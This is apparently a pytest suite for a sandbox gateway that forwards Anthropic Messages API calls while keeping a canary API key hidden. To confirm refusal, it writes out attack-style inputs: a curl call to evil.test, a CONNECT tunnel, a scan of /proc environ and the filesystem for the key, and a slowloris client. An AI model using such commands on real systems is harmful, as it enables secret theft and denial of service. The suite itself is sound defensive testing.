"""The model gateway end to end: real bubblewrap, real socat, curl inside the sandbox.

A sandbox created with a gateway socket reaches the model at http://127.0.0.1:3129 holding only
a placeholder key; the gateway on the host forwards the Messages API to tests/fakes/anthropic.py,
which enforces the REAL key (a canary: it must appear nowhere the sandbox, an event or a log can
show). Everything else the sandbox asks of the gateway (other paths, a CONNECT, another host,
too large a request, too slow a client) is refused, and what is not for the model is reported
as a `network_blocked` event.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import re
import secrets
import shlex
import shutil
import tempfile
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest

from backspace.orchestrator.agent.pricing import Usage
from backspace.orchestrator.egress.gate import Gate
from backspace.orchestrator.egress.hosts import AddressMap
from backspace.orchestrator.egress.proxy import EgressProxy
from backspace.orchestrator.events import EventType
from backspace.orchestrator.gateway import GatewayLease, GatewayLimits, ModelGateway
from backspace.orchestrator.gateway.meter import MAX_LINE, UsageMeter
from backspace.orchestrator.gateway.request import SANDBOX_PORT, Refusal, Request, parse_head
from backspace.orchestrator.sandboxes.local import (
    MODEL_PORT,
    PLACEHOLDER_KEY,
    UNPRIVILEGED_UID,
    LocalSandbox,
    LocalSandboxProvider,
)
from tests.fakes.anthropic import FakeAnthropic, Reply, Text
from tests.tls import TLS

KEY = f"sk-ant-api03-canary-{secrets.token_hex(16)}"
USAGE = {
    "input_tokens": 1000,
    "output_tokens": 50,
    "cache_creation_input_tokens": 300,
    "cache_read_input_tokens": 200,
}
MODEL = "claude-sonnet-4-5"
ANSWER = "Hello from the scripted model, streamed in several deltas."
LIMITS = GatewayLimits(
    max_head_bytes=8192,
    max_body_bytes=2 * 1024 * 1024,
    head_timeout=2.0,
    body_timeout=3.0,
    max_connections_per_run=8,
)
BASE = "http://127.0.0.1:3129"
CURL = "curl -sS --max-time 20"
HEADERS = (
    "-H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'anthropic-version: 2023-06-01' "
    "-H 'content-type: application/json'"
)


def body(stream: bool, text: str = "gateway-test") -> str:
    return json.dumps(
        {
            "model": MODEL,
            "max_tokens": 100,
            "stream": stream,
            "messages": [{"role": "user", "content": text}],
        }
    )


def messages(stream: bool, *, path: str = "/v1/messages?beta=true", text: str = "gw") -> str:
    return f"{CURL} -N {HEADERS} {BASE}{path} -d {shlex.quote(body(stream, text))}"


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeAnthropic]:
    reply = Reply([Text(ANSWER)], usage=dict(USAGE))
    with FakeAnthropic({"gw": [reply]}, default="gw", api_key=KEY) as server:
        yield server


@pytest.fixture(scope="module")
def gateway(fake: FakeAnthropic) -> Iterator[ModelGateway]:
    gateway = ModelGateway(KEY, fake.url, limits=LIMITS)
    yield gateway
    gateway.stop()


@pytest.fixture(scope="module")
def parent() -> Iterator[Path]:
    """Below /tmp, 0711: as root, bubblewrap runs as `nobody` and must traverse it."""
    path = Path(tempfile.mkdtemp(prefix="backspace-test-gw-"))
    path.chmod(0o711)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def provider(parent: Path) -> Iterator[LocalSandboxProvider]:
    egress = EgressProxy(AddressMap.parse(""))
    provider = LocalSandboxProvider(parent / "root", egress=egress)
    usable, message = provider.check()
    assert usable and provider.isolated, message
    yield provider
    egress.stop()


@dataclass
class Run:
    lease: GatewayLease
    sandbox: LocalSandbox
    events: list[tuple[str, dict[str, Any]]] = field(default_factory=list)
    outputs: list[str] = field(default_factory=list)

    async def sh(self, command: str, stdin: bytes | None = None) -> str:
        result = await self.sandbox.exec(command, timeout=60, stdin=stdin)
        self.outputs.append(result.output)
        return result.output

    def blocked(self) -> list[dict[str, Any]]:
        return [data for kind, data in self.events if kind == EventType.NETWORK_BLOCKED]


async def open_run(
    gateway: ModelGateway, provider: LocalSandboxProvider, parent: Path, budget: float = 5.0
) -> Run:
    run_id = f"gw-{uuid.uuid4().hex[:8]}"
    events: list[tuple[str, dict[str, Any]]] = []
    owner = UNPRIVILEGED_UID if os.geteuid() == 0 else None
    socket_path = parent / f"{run_id}.model.sock"
    lease = await gateway.open(
        run_id,
        budget_usd=budget,
        emit=lambda kind, data: events.append((kind, data)),
        socket_path=socket_path,
        owner_uid=owner,
    )
    sandbox = await provider.create(run_id, gate=Gate(), gateway=socket_path)
    return Run(lease, sandbox, events)


@pytest.fixture
async def run(
    gateway: ModelGateway, provider: LocalSandboxProvider, parent: Path
) -> AsyncIterator[Run]:
    opened = await open_run(gateway, provider, parent)
    try:
        yield opened
    finally:
        await opened.sandbox.close()
        await opened.lease.close()
        assert not (parent / f"{opened.lease.run_id}.model.sock").exists()
        everything = json.dumps(opened.events) + "".join(opened.outputs)
        assert KEY not in everything  # the canary: never back to the sandbox, never in an event


def normalised(data: str) -> str:
    """A stream with its random ids blanked, to compare two answers to the same request."""
    return re.sub(r"(msg|req|toolu)_[0-9a-f]{24}", r"\1_X", data)


def expected_usage() -> Usage:
    usage = Usage()
    usage.add(MODEL, SimpleNamespace(**USAGE))
    return usage


async def test_a_streamed_request_reaches_the_model_with_the_real_key_only(
    run: Run, fake: FakeAnthropic
) -> None:
    assert SANDBOX_PORT == MODEL_PORT
    env = await run.sh("env | grep ^ANTHROPIC_; test -S /run/backspace/model.sock && echo door")
    assert f"ANTHROPIC_API_KEY={PLACEHOLDER_KEY}" in env
    assert f"ANTHROPIC_BASE_URL={BASE}" in env and "door" in env
    fake.reset()
    streamed = await run.sh(messages(True))
    async with httpx.AsyncClient(verify=TLS) as client:  # the same request, straight to the model
        direct = await client.post(
            f"{fake.url}/v1/messages?beta=true",
            content=body(True),
            headers={"x-api-key": KEY, "content-type": "application/json"},
        )
    assert normalised(streamed) == normalised(direct.text)  # byte for byte, ids aside
    assert "event: message_stop" in streamed and ANSWER[:16] in streamed
    first = fake.requests[0]
    assert first["path"] == "/v1/messages" and first["headers"]["x-api-key"] == KEY
    assert "authorization" not in first["headers"]
    assert first["headers"].get("accept-encoding") == "identity"
    # Counted once: message_start's input tokens are not added again from message_delta.
    assert run.lease.usage == expected_usage()
    assert run.lease.spent_usd == pytest.approx(expected_usage().cost_usd)
    assert run.lease.spent_usd > 0 and not run.lease.exceeded


async def test_a_json_answer_and_count_tokens_pass_and_only_messages_are_charged(
    run: Run, fake: FakeAnthropic
) -> None:
    fake.reset()
    answer = await run.sh(messages(False, path="/v1/messages"))
    assert json.loads(answer)["content"][0]["text"] == ANSWER
    counted = await run.sh(messages(False, path="/v1/messages/count_tokens"))
    assert json.loads(counted)["input_tokens"] > 0
    # A client's own Authorization (a token in the sandbox) is replaced too, never forwarded.
    bearer = await run.sh(
        f"{CURL} -H 'authorization: Bearer {PLACEHOLDER_KEY}' -H 'content-type: application/json'"
        f" {BASE}/v1/messages -d {shlex.quote(body(False))}"
    )
    assert json.loads(bearer)["type"] == "message"
    assert [r["path"] for r in fake.requests] == [
        "/v1/messages",
        "/v1/messages/count_tokens",
        "/v1/messages",
    ]
    for record in fake.requests:
        assert record["headers"]["x-api-key"] == KEY
        assert PLACEHOLDER_KEY not in json.dumps(record["headers"])
    twice = expected_usage()
    twice.add(MODEL, SimpleNamespace(**USAGE))
    assert run.lease.usage == twice


async def test_past_the_budget_the_model_is_not_asked_and_the_run_is_marked(
    gateway: ModelGateway, provider: LocalSandboxProvider, parent: Path, fake: FakeAnthropic
) -> None:
    cost = expected_usage().cost_usd
    tight = await open_run(gateway, provider, parent, budget=cost * 1.5)
    try:
        fake.reset()
        assert "message_stop" in await tight.sh(messages(True))
        assert "message_stop" in await tight.sh(messages(True))  # under the budget when sent
        before = tight.lease.exceeded
        refused = await tight.sh(messages(True) + " -i")
        assert "HTTP/1.1 403" in refused and "x-should-retry: false" in refused
        error = json.loads(refused.split("\r\n\r\n", 1)[1])
        assert error["error"]["type"] == "permission_error"
        assert f"spend limit (${cost * 1.5:g}) is reached" in error["error"]["message"]
        assert (before, tight.lease.exceeded) == (False, True)
        assert len(fake.requests) == 2  # the refused request never reached the model
        assert (tight.lease.requests, tight.lease.refused) == (2, 1)
        assert tight.lease.spent_usd == pytest.approx(2 * cost)
    finally:
        await tight.sandbox.close()
        await tight.lease.close()


async def test_whatever_is_not_for_the_model_is_refused_and_reported(
    run: Run, fake: FakeAnthropic
) -> None:
    fake.reset()
    code = f"{CURL} -o /dev/null -w '%{{http_code}}\\n'"
    models = await run.sh(f"{code} {HEADERS} {BASE}/v1/models")
    complete = await run.sh(f"{code} {HEADERS} {BASE}/v1/complete -d 'BODY-MARKER'")
    telemetry = await run.sh(f"{code} {BASE}/api/event_logging/batch?data=QUERY-MARKER -d x")
    tunnel = await run.sh(f"{CURL} -x {BASE} https://statsig.anthropic.com/ 2>&1; echo rc=$?")
    other = await run.sh(f"{code} -x {BASE} http://evil.test/v1/messages -d 'BODY-MARKER'")
    assert models.strip() == "404" and complete.strip() == "404" and telemetry.strip() == "404"
    assert "403" in tunnel and "rc=0" not in tunnel
    assert other.strip() == "403"
    assert fake.requests == []  # none of them reached the model's server
    await asyncio.sleep(0.05)  # the reports reach this loop by call_soon_threadsafe
    blocked = run.blocked()
    seen = {(e["host"], e["port"], e["path"]) for e in blocked}
    upstream = httpx.URL(fake.url)
    assert seen == {
        (upstream.host, upstream.port, "/v1/models"),
        (upstream.host, upstream.port, "/v1/complete"),
        (upstream.host, upstream.port, "/api/event_logging/batch"),
        ("statsig.anthropic.com", 443, None),
        ("evil.test", 80, "/v1/messages"),
    }
    for event in blocked:
        assert event["phase"] == "agent" and event["reason"] and event["hint"]
    shown = json.dumps(blocked)
    assert "BODY-MARKER" not in shown and "QUERY-MARKER" not in shown


async def test_too_large_a_request_is_refused_before_it_is_read(
    run: Run, fake: FakeAnthropic
) -> None:
    fake.reset()
    big = LIMITS.max_body_bytes + 1
    code = f"{CURL} -o /tmp/answer -w '%{{http_code}}\\n' {HEADERS}"
    sized = await run.sh(
        f"head -c {big} /dev/zero | tr '\\0' a > /tmp/big; "
        f"{code} {BASE}/v1/messages --data-binary @/tmp/big; cat /tmp/answer"
    )
    assert sized.startswith("413") and "request_too_large" in sized
    chunked = await run.sh(
        f"{code} -H 'transfer-encoding: chunked' {BASE}/v1/messages --data-binary @/tmp/big"
    )
    assert chunked.startswith("413")
    header = await run.sh(
        f"{code} -H \"x-pad: $(head -c 9000 /dev/zero | tr '\\0' a)\" {BASE}/v1/messages -d x"
    )
    assert header.startswith("431")
    assert fake.requests == []


async def slow_client(path: Path, stop: asyncio.Event) -> float:
    """A slowloris: a request head a byte at a time; how long until the gateway answered or
    closed the connection."""
    started = time.monotonic()
    reader, writer = await asyncio.open_unix_connection(str(path))
    answered = asyncio.create_task(reader.read(1))
    try:
        for byte in b"POST /v1/messages HTTP/1.1\r\nx-slow: " + b"a" * 1000:
            if stop.is_set() or answered.done():
                break
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(0.2)
    except ConnectionError:
        pass
    finally:
        answered.cancel()
        writer.close()
    return time.monotonic() - started


async def test_a_slowloris_client_neither_blocks_another_run_nor_holds_its_own_socket(
    gateway: ModelGateway, provider: LocalSandboxProvider, parent: Path
) -> None:
    hostile = await open_run(gateway, provider, parent)
    other = await open_run(gateway, provider, parent)
    stop = asyncio.Event()
    try:
        assert hostile.lease.path is not None
        slow = [
            asyncio.create_task(slow_client(hostile.lease.path, stop))
            for _ in range(LIMITS.max_connections_per_run + 4)
        ]
        await asyncio.sleep(0.3)
        started = time.monotonic()
        answer = await other.sh(messages(True))
        assert "message_stop" in answer
        assert time.monotonic() - started < 10.0  # the slow clients would hold it for minutes
        held = await asyncio.wait_for(asyncio.gather(*slow), timeout=20)
        # Each was cut when its head was not complete within head_timeout (or at once, past
        # the per-run connection limit), not when it gave up.
        assert max(held) < LIMITS.head_timeout + 4.0  # else each dribbles for 200 s
        assert min(held) < 1.5  # the connections over the limit were answered at once
    finally:
        stop.set()
        for one in (hostile, other):
            await one.sandbox.close()
            await one.lease.close()


async def test_the_key_appears_nowhere_in_the_sandbox_events_or_logs(
    run: Run, fake: FakeAnthropic, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    fake.reset()
    assert "message_stop" in await run.sh(messages(True))
    await run.sh(f"{CURL} {BASE}/v1/models; {CURL} -x {BASE} https://api.anthropic.com/")
    assert fake.requests[0]["headers"]["x-api-key"] == KEY  # the canary is live
    leaks = await run.sh(
        "env; tr '\\0' '\\n' < /proc/self/environ; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n';"
        " grep -rlF -D skip -f /dev/stdin / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev"
        " --exclude-dir=usr 2>/dev/null; echo grep-done",
        stdin=KEY.encode(),
    )
    assert "grep-done" in leaks and PLACEHOLDER_KEY in leaks
    assert KEY not in leaks and KEY[-16:] not in leaks
    assert KEY not in caplog.text and KEY not in repr(run.lease.gateway)
    await asyncio.sleep(0.05)
    assert run.blocked() and KEY not in json.dumps(run.events)


async def test_a_sandbox_without_a_gateway_has_no_model_door(
    provider: LocalSandboxProvider,
) -> None:
    sandbox = await provider.create(f"gw-{uuid.uuid4().hex[:8]}", gate=Gate())
    try:
        result = await sandbox.exec(f"env; ls /run/backspace; {CURL} {BASE}/v1/messages -d x")
        assert "ANTHROPIC" not in result.output and "model.sock" not in result.output
        assert result.exit_code != 0
    finally:
        await sandbox.close()


async def test_a_large_request_within_the_cap_passes_without_waiting(
    run: Run, fake: FakeAnthropic
) -> None:
    """curl sends `Expect: 100-continue` for a body over 1 MiB and waits for the go-ahead."""
    fake.reset()
    padding = "x" * (LIMITS.max_body_bytes * 3 // 4)  # over 1 MiB: curl sends Expect
    big = json.dumps({**json.loads(body(False)), "metadata": {"pad": padding}})
    await run.sh("cat > /tmp/req.json", stdin=big.encode())
    # Without the gateway's `100 Continue`, curl would wait out the 30 s and then --max-time.
    answer = await run.sh(
        f"{CURL} --expect100-timeout 30 {HEADERS} {BASE}/v1/messages --data-binary @/tmp/req.json"
    )
    assert json.loads(answer)["type"] == "message"
    assert fake.requests[0]["body"]["metadata"]["pad"] == padding


def test_the_meter_reads_usage_across_any_split_and_skips_huge_lines() -> None:
    start = {
        "type": "message_start",
        "message": {"model": MODEL, "usage": {**USAGE, "output_tokens": 1}},
    }
    delta = {"type": "message_delta", "delta": {}, "usage": {"output_tokens": 50}}
    huge = {"type": "content_block_delta", "delta": {"text": "y" * (MAX_LINE + 10)}}
    stream = "".join(
        f"event: {e['type']}\ndata: {json.dumps(e)}\n\n" for e in (start, huge, delta)
    ).encode()
    meter = UsageMeter(stream=True, model="")
    for i in range(0, len(stream), 7):
        meter.feed(stream[i : i + 7])
    assert meter.finish() == USAGE and meter.model == MODEL
    cut = UsageMeter(stream=True, model=MODEL)  # a stream that broke after message_start
    cut.feed(stream[: stream.index(b"\n\n") + 2])
    assert cut.finish()["input_tokens"] == 1000 and cut.finish()["output_tokens"] == 1


@pytest.mark.parametrize(
    "head",
    [
        b"POST /v1/messages HTTP/1.1\r\nHost : x\r\n\r\n",  # a space before the colon
        b"POST /v1/messages HTTP/2\r\n\r\n",
        b"POST  /v1/messages HTTP/1.1\r\n\r\n",
        b"POST /v1/messages HTTP/1.1\r\nno colon\r\n\r\n",
    ],
)
def test_a_malformed_head_is_a_400(head: bytes) -> None:
    refused = parse_head(head, SANDBOX_PORT)
    assert isinstance(refused, Refusal) and refused.status == 400


def test_look_alike_paths_are_not_the_messages_api() -> None:
    for target in (
        "/v1/messages/",
        "/v1/messages/../models",
        "/v1/messages/batches",
        "//v1/messages",
    ):
        refused = parse_head(f"POST {target} HTTP/1.1\r\n\r\n".encode(), SANDBOX_PORT)
        assert isinstance(refused, Refusal) and refused.status == 404, target
    own = parse_head(b"POST http://127.0.0.1:3129/v1/messages HTTP/1.1\r\n\r\n", SANDBOX_PORT)
    assert isinstance(own, Request) and own.target == "/v1/messages"
